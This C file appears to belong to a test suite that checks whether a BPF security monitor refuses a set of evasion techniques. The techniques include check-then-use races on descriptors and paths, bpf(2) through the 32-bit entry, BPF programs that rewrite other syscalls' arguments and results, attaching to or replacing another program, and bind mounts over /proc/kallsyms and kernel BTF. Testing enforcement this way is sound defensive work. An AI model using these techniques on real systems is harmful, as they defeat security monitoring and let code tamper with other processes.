// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * Ways past whoever looks at system calls: races between a look and the use, the 32-bit way, a flag
 * within the command; what others' calls become on their way in and out; and programs that are put
 * upon or in place of another one.
 */
#include "probe.h"

#include <bpf/bpf.h>
#include <bpf/btf.h>
#include <bpf/libbpf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "insn.h"
#include "loads.h"
#include "whole.h"

#define N(insns) (sizeof(insns) / sizeof((insns)[0]))
#define FORGED 1
#define PAGE 4096
#define TRIES 20000
#define REFUSALS 200 /* enough of a race that is refused whoever wins it */
#define COMMON_ATTRS (1 << 16)

/* ---- races: another thread changes what was looked at */

struct race {
	atomic_bool over;
	int fd, ours, theirs; /* which number, and what is put there in turn */
	char *path;
	const char *names[2];
};

static void *swap_fds(void *argument)
{
	struct race *race = argument;

	while (!race->over) {
		(void)dup3(race->theirs, race->fd, O_CLOEXEC);
		(void)dup3(race->ours, race->fd, O_CLOEXEC);
	}
	return NULL;
}

static void *swap_names(void *argument)
{
	struct race *race = argument;

	for (unsigned int i = 0; !race->over; i++)
		memcpy(race->path, race->names[i & 1], strlen(race->names[i & 1]) + 1);
	return NULL;
}

/* @act gives 0 when it has gone through, an errno that means `not this time`, or another. */
static int run_race(struct race *race, void *(*swap)(void *),
		    int (*act)(struct race *race, const struct target *target),
		    const struct target *target)
{
	int r = -ETIMEDOUT, refused = 0;
	pthread_t thread;

	if (pthread_create(&thread, NULL, swap, race))
		return setup_failed("thread");
	for (int i = 0; i < TRIES && r != 0 && refused < REFUSALS; i++) {
		r = act(race, target);
		refused += r == -EPERM;
	}
	race->over = true;
	(void)pthread_join(thread, NULL);
	return r != 0 && refused ? -EPERM : r;
}

static int detach_some(struct race *race, const struct target *target)
{
	return result(bpf_prog_detach(race->fd, (enum bpf_attach_type)target_get(target, "type")));
}

/* A control group of ours, where there is nothing to detach, and in between the canary's. */
static int race_fd(const struct target *target)
{
	static const char path[] = "/sys/fs/cgroup/race.objects";
	struct race race = {};
	int r;

	if (mkdir(path, 0755) < 0 && errno != EEXIST)
		return setup_failed(path);
	race.ours = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	race.theirs = target_cgroup(target, "");
	race.fd = fcntl(race.ours, F_DUPFD_CLOEXEC, 0);
	if (race.ours < 0 || race.theirs < 0 || race.fd < 0)
		return setup_failed("control groups");
	r = run_race(&race, swap_fds, detach_some, target);
	(void)rmdir(path);
	return r;
}

static int open_some(struct race *race, const struct target *target)
{
	int map = bpf_obj_get(race->path), r;
	struct bpf_map_info info = {};
	uint32_t size = sizeof(info), key = FORGED;
	uint64_t value = FORGED;

	if (map < 0)
		return -errno;
	r = bpf_obj_get_info_by_fd(map, &info, &size) == 0 && info.id == target_get(target, "map")
		    ? result(bpf_map_update_elem(map, &key, &value, BPF_ANY))
		    : -EAGAIN;
	close(map);
	return r;
}

/* The path of a pin of ours, and in between the canary's. */
static int race_path(const struct target *target)
{
	static const char ours[] = "/sys/fs/bpf/race";
	char path[128];
	struct race race = {.path = path, .names = {target_pin(target, "map"), ours}};
	int map = bpf_map_create(BPF_MAP_TYPE_ARRAY, "race", 4, 8, 1, NULL), r;

	strcpy(path, ours);
	(void)unlink(ours);
	if (map < 0 || bpf_obj_pin(map, ours) < 0)
		return setup_failed(ours);
	r = run_race(&race, swap_names, open_some, target);
	(void)unlink(ours);
	return r;
}

static int unlink_some(struct race *race, const struct target *target)
{
	return result(unlink(race->path));
}

/* What a tool has read of the arguments is not what the kernel goes by. */
static int race_unlink(const struct target *target)
{
	static const char ours[] = "/sys/fs/bpf/race-not-there";
	char path[128];
	struct race race = {.path = path, .names = {target_pin(target, "map"), ours}};

	strcpy(path, ours);
	return run_race(&race, swap_names, unlink_some, target);
}

/* ---- other ways of calling */

/* bpf(2) by its number for 32-bit programs, which is another entry of the kernel. */
static long bpf_32(int command, union bpf_attr *attr)
{
	long r;

	__asm__ volatile("int $0x80"
			 : "=a"(r)
			 : "a"(357L), "b"((long)command), "c"(attr), "d"(sizeof(*attr))
			 : "memory", "r8", "r9", "r10", "r11");
	return (int)r;
}

static int by_32_bits(const struct target *target)
{
	struct {
		union bpf_attr attr;
		uint32_t key;
		uint64_t value;
	} *low = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
		      -1, 0);
	long map;

	if (low == MAP_FAILED)
		return setup_failed("low memory");
	low->attr.map_id = (uint32_t)target_get(target, "map");
	map = bpf_32(BPF_MAP_GET_FD_BY_ID, &low->attr);
	if (map < 0)
		return (int)map;
	memset(&low->attr, 0, sizeof(low->attr));
	low->key = FORGED;
	low->value = FORGED;
	low->attr.map_fd = (uint32_t)map;
	low->attr.key = (uint64_t)(uintptr_t)&low->key;
	low->attr.value = (uint64_t)(uintptr_t)&low->value;
	return (int)bpf_32(BPF_MAP_UPDATE_ELEM, &low->attr);
}

static int flagged(int command, union bpf_attr *attr)
{
	unsigned char common[64] = {};

	return (int)syscall(SYS_bpf, command | COMMON_ATTRS, attr, sizeof(*attr), common,
			    sizeof(common));
}

static int by_flag(const struct target *target)
{
	union bpf_attr attr = {.map_id = (uint32_t)target_get(target, "map")};
	uint64_t value = FORGED;
	uint32_t key = FORGED;
	int map = flagged(BPF_MAP_GET_FD_BY_ID, &attr);

	return map < 0 ? -errno : result(bpf_map_update_elem(map, &key, &value, BPF_ANY));
}

static int own_by_id(const struct target *target)
{
	struct bpf_map_info info = {};
	uint32_t size = sizeof(info);
	int map = bpf_map_create(BPF_MAP_TYPE_ARRAY, "ours", 4, 8, 1, NULL);

	if (map < 0 || bpf_obj_get_info_by_fd(map, &info, &size) < 0)
		return setup_failed("our map");
	return result(bpf_map_get_fd_by_id(info.id));
}

/* A command that asks for nobody's object. */
static int no_flag(void)
{
	union bpf_attr attr = {};

	return flagged(BPF_MAP_GET_NEXT_ID, &attr) < 0 && errno == EINVAL ? EINVAL : 0;
}

/* ---- what calls become on their way: a program at their entry or exit writes our own memory */

/* The kernel passes over a program where it has preempted the same one: one try says little. */
#define REWRITE_TRIES 16

static int rewrite(const char *where, const void *at, const uint64_t *by)
{
	uint64_t address = (uint64_t)(uintptr_t)at;
	const struct bpf_insn insns[] = {
		CALL(BPF_FUNC_get_current_pid_tgid),
		INSN(BPF_ALU64 | BPF_RSH | BPF_K, BPF_REG_0, 0, 0, 32),
		JUMP_EQ(BPF_REG_0, getpid(), 2),
		MOV_IMM(BPF_REG_0, 0),
		EXIT(),
		INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_1, 0, 0, (int32_t)(uint32_t)*by),
		INSN(0, 0, 0, 0, (int32_t)(*by >> 32)),
		INSN(BPF_STX | BPF_MEM | BPF_DW, BPF_REG_10, BPF_REG_1, -8, 0),
		INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_1, 0, 0, (int32_t)(uint32_t)address),
		INSN(0, 0, 0, 0, (int32_t)(address >> 32)),
		MOV_REG(BPF_REG_2, BPF_REG_10),
		ADD_IMM(BPF_REG_2, -8),
		MOV_IMM(BPF_REG_3, 8),
		CALL(BPF_FUNC_probe_write_user),
		MOV_IMM(BPF_REG_0, 0),
		EXIT(),
	};
	int prog = bpf_prog_load(BPF_PROG_TYPE_RAW_TRACEPOINT, "rewriter", "GPL", insns, N(insns),
				 NULL);

	return result(prog < 0 ? prog : bpf_raw_tracepoint_open(where, prog));
}

/* Both answer; the one that is loaded is not the one that we have written. */
static int rewrite_instructions(const struct target *target)
{
	LIBBPF_OPTS(bpf_prog_load_opts, load, .expected_attach_type = BPF_CGROUP_INET_EGRESS);
	const struct bpf_insn other = MOV_IMM(BPF_REG_0, 1);
	struct bpf_insn insns[] = {MOV_IMM(BPF_REG_0, 0), EXIT()};
	char packet[64] = {};
	LIBBPF_OPTS(bpf_test_run_opts, run, .data_in = packet, .data_size_in = sizeof(packet));
	uint64_t word;
	int r, prog;

	memcpy(&word, &other, sizeof(word));
	r = rewrite("sys_enter", &insns[0], &word);
	if (r < 0)
		return r;
	for (int i = 0; i < REWRITE_TRIES; i++) {
		insns[0] = MOV_IMM(BPF_REG_0, 0);
		prog = bpf_prog_load(BPF_PROG_TYPE_CGROUP_SKB, "written", "GPL", insns, 2, &load);
		if (prog < 0 || bpf_prog_test_run_opts(prog, &run) < 0)
			return setup_failed("the program that is rewritten");
		close(prog);
		if (run.retval == 1)
			return 0;
	}
	return -EIO;
}

/* A file that there is not is opened. */
static int rewrite_path(const struct target *target)
{
	char path[] = "/proc/0/version";
	uint64_t word;
	int r;

	memcpy(&word, "/proc///", sizeof(word));
	r = rewrite("sys_enter", path, &word);
	if (r < 0)
		return r;
	for (int i = 0; i < REWRITE_TRIES; i++) {
		memcpy(path, "/proc/0/", sizeof(word));
		if (open(path, O_RDONLY | O_CLOEXEC) >= 0)
			return 0;
	}
	return -EIO;
}

/* The next id is not what the kernel has answered. */
static int rewrite_answer(const struct target *target)
{
	union bpf_attr attr __attribute__((aligned(8))) = {};
	const uint64_t word = 0xffffffffull << 32;
	int r = rewrite("sys_exit", &attr, &word);

	if (r < 0)
		return r;
	for (int i = 0; i < REWRITE_TRIES; i++) {
		memset(&attr, 0, sizeof(attr));
		if (syscall(SYS_bpf, BPF_MAP_GET_NEXT_ID, &attr, sizeof(attr)) < 0)
			return setup_failed("ids of maps");
		if (attr.next_id == UINT32_MAX)
			return 0;
	}
	return -EIO;
}

/* ---- upon another program, and in its place */

static int hang_on(enum bpf_prog_type type, enum bpf_attach_type attach_type, int prog)
{
	LIBBPF_OPTS(bpf_prog_load_opts, opts, .expected_attach_type = attach_type);
	const struct bpf_func_info info = {.type_id = WHOLE_FUNCTION};
	const struct bpf_insn insns[] = {MOV_IMM(BPF_REG_0, 0), EXIT()};
	int btf = whole_btf();

	if (btf < 0)
		return setup_failed("BTF of a function");
	if (type == BPF_PROG_TYPE_EXT) {
		opts.func_info = &info;
		opts.func_info_cnt = 1;
		opts.func_info_rec_size = sizeof(info);
		opts.prog_btf_fd = (uint32_t)btf;
	}
	opts.attach_prog_fd = prog;
	opts.attach_btf_id = WHOLE_FUNCTION;
	return bpf_prog_load(type, "upon", "GPL", insns, N(insns), &opts);
}

/* Loaded against one of ours, linked to the canary's. */
static int replace_elsewhere(const struct target *target)
{
	LIBBPF_OPTS(bpf_link_create_opts, opts, .target_btf_id = WHOLE_FUNCTION);
	int decoy = whole_load(2), ours, theirs;

	if (decoy < 0)
		return setup_failed("decoy");
	ours = hang_on(BPF_PROG_TYPE_EXT, 0, decoy);
	if (ours < 0)
		return -errno;
	theirs = bpf_prog_get_fd_by_id((uint32_t)target_get(target, "whole"));
	return result(theirs < 0 ? theirs : bpf_link_create(ours, theirs, 0, &opts));
}

static int trace_program(const struct target *target, enum bpf_attach_type attach_type)
{
	int theirs = bpf_prog_get_fd_by_id((uint32_t)target_get(target, "whole")), ours;

	if (theirs < 0)
		return -errno;
	ours = hang_on(BPF_PROG_TYPE_TRACING, attach_type, theirs);
	return result(ours < 0 ? ours : bpf_raw_tracepoint_open(NULL, ours));
}

static int trace_entry(const struct target *target)
{
	return trace_program(target, BPF_TRACE_FENTRY);
}

static int trace_exit(const struct target *target)
{
	return trace_program(target, BPF_TRACE_FEXIT);
}

/* ---- into the registers of whoever runs the code that is probed */

static int write_registers(const struct target *target)
{
	const struct bpf_insn insns[] = {
		STORE_IMM(BPF_REG_1, 80, 0), /* what is returned */
		MOV_IMM(BPF_REG_0, 0),
		EXIT(),
	};

	return result(
		bpf_prog_load(BPF_PROG_TYPE_KPROBE, "registers", "GPL", insns, N(insns), NULL));
}

static int no_writing_registers(void)
{
	struct btf *btf = btf__load_vmlinux_btf();
	int id = btf ? btf__find_by_name_kind(btf, "bpf_prog_aux", BTF_KIND_STRUCT) : -1;
	const struct btf_type *type = id < 0 ? NULL : btf__type_by_id(btf, (uint32_t)id);
	int r = type ? EACCES : 0;

	for (uint16_t i = 0; type && i < btf_vlen(type); i++)
		if (strcmp(btf__name_by_offset(btf, btf_members(type)[i].name_off),
			   "kprobe_write_ctx") == 0)
			r = 0;
	btf__free(btf);
	return r;
}

/* ---- what the kernel tells of itself, forged */

static int cover(const char *path)
{
	if (mount("/proc/version", path, NULL, MS_BIND, NULL) < 0)
		return -errno;
	return result(umount2(path, MNT_DETACH));
}

static int cover_types(const struct target *target)
{
	return cover("/sys/kernel/btf/vmlinux");
}

static int cover_symbols(const struct target *target)
{
	return cover("/proc/kallsyms");
}

static int cover_by_move(const struct target *target)
{
	int tree = (int)syscall(SYS_open_tree, AT_FDCWD, "/proc/version",
				OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);

	if (tree < 0)
		return setup_failed("open_tree");
	if (syscall(SYS_move_mount, tree, "", AT_FDCWD, "/proc/kallsyms", MOVE_MOUNT_F_EMPTY_PATH) <
	    0)
		return -errno;
	return result(umount2("/proc/kallsyms", MNT_DETACH));
}

static int cover_task(const struct target *target)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d", (int)target_get(target, "pid"));
	if (mount("none", path, "tmpfs", 0, NULL) < 0)
		return -errno;
	return result(umount2(path, MNT_DETACH));
}

/* Over a file of its own, and over a folder of sysfs for that purpose. */
static int cover_own(const struct target *target)
{
	int fd = open("/run/own-file", O_RDWR | O_CREAT | O_CLOEXEC, 0600), r;

	if (fd < 0)
		return setup_failed("/run/own-file");
	close(fd);
	r = cover("/run/own-file");
	(void)unlink("/run/own-file");
	if (r == 0 && mount("none", "/sys/kernel/debug", "debugfs", 0, NULL) == 0)
		r = result(umount2("/sys/kernel/debug", MNT_DETACH));
	return r;
}

/* ---- a scheduler */

static int scheduler_type(const struct btf **ret_btf)
{
	struct btf *btf = btf__load_vmlinux_btf();

	*ret_btf = btf;
	return btf ? btf__find_by_name_kind(btf, "bpf_struct_ops_sched_ext_ops", BTF_KIND_STRUCT)
		   : -EIO;
}

static int schedule(const struct target *target)
{
	LIBBPF_OPTS(bpf_map_create_opts, opts);
	const struct btf *btf;
	int type = scheduler_type(&btf);

	if (type < 0)
		return type;
	opts.btf_vmlinux_value_type_id = (uint32_t)type;
	opts.btf_fd = (uint32_t)whole_btf(); /* any will do */
	return result(bpf_map_create(BPF_MAP_TYPE_STRUCT_OPS, "scheduler", 4,
				     btf__type_by_id(btf, (uint32_t)type)->size, 1, &opts));
}

static int no_scheduler(void)
{
	const struct btf *btf;

	return scheduler_type(&btf) == -ENOENT ? ENOENT : 0;
}

#define COVERS (SILENT | GUEST_ONLY)
#define WRITES_USER (SILENT | UNLOCKED)

const struct technique ways_techniques[] = {
	{"I06", "race-fd", "the fd exchanged between check and use", EPERM, "*", NULL, 0, race_fd},
	{"I07", "race-path", "the path exchanged between check and use", EPERM, "*", "*", 0,
	 race_path},
	{"I20", "by-32-bits", "map update by int 0x80", ENOENT, "M01", NULL, 0, by_32_bits},
	{"I21", "by-flag", "map update, a flag within the command", ENOENT, "M01", NULL, 0, by_flag,
	 own_by_id, "its own map by id", no_flag},
	{"T07", "race-unlink", "the path exchanged while it is looked at", EPERM, "*", "*", 0,
	 race_unlink},
	{"F10", "cover-types", "a file over the kernel's types", EPERM, "F10", NULL, COVERS,
	 cover_types, cover_own, "over a file of its own"},
	{"F10", "cover-symbols", "a file over the kernel's symbols", EPERM, "F10", NULL, COVERS,
	 cover_symbols, cover_own, "over a file of its own"},
	{"F10", "cover-by-move", "the same by move_mount", EPERM, "F10", NULL, COVERS,
	 cover_by_move, cover_own, "over a file of its own"},
	{"T09", "cover-task", "a folder over the canary's in /proc", EPERM, "T09", NULL, COVERS,
	 cover_task, cover_own, "over a file of its own"},
	{"P14", "registers", "a program that writes registers", EPERM, "P14", NULL, SILENT,
	 write_registers, load_ordinary, "ordinary programs", no_writing_registers},
	{"P02", "ext-elsewhere", "a replacement linked to another program", EPERM, "P01", "P01 P12",
	 SILENT, replace_elsewhere, load_ordinary, "ordinary programs"},
	{"P03", "trace-entry", "fentry on a program", ENOENT, "P12", NULL, SILENT, trace_entry},
	{"P03", "trace-exit", "fexit on a program", ENOENT, "P12", NULL, SILENT, trace_exit},
	{"P07", "rewrite-load", "instructions rewritten at the entry of bpf(2)", EPERM, "P09", NULL,
	 WRITES_USER, rewrite_instructions, load_numbers,
	 "a program with these helpers' numbers as numbers"},
	{"P10", "rewrite-path", "a path rewritten at the entry of open", EPERM, "P09", NULL,
	 WRITES_USER, rewrite_path, load_numbers,
	 "a program with these helpers' numbers as numbers"},
	{"P16", "rewrite-ids", "the next id rewritten at the exit of bpf(2)", EPERM, "P09", NULL,
	 WRITES_USER, rewrite_answer, load_numbers,
	 "a program with these helpers' numbers as numbers"},
	{"P22", "limit-sched-ext", "a scheduler's operations", EPERM, "P22", NULL, SILENT | LIMITED,
	 schedule, own_by_id, "its own map by id", no_scheduler,
	 "no type bpf_struct_ops_sched_ext_ops in the kernel's BTF"},
	{},
};
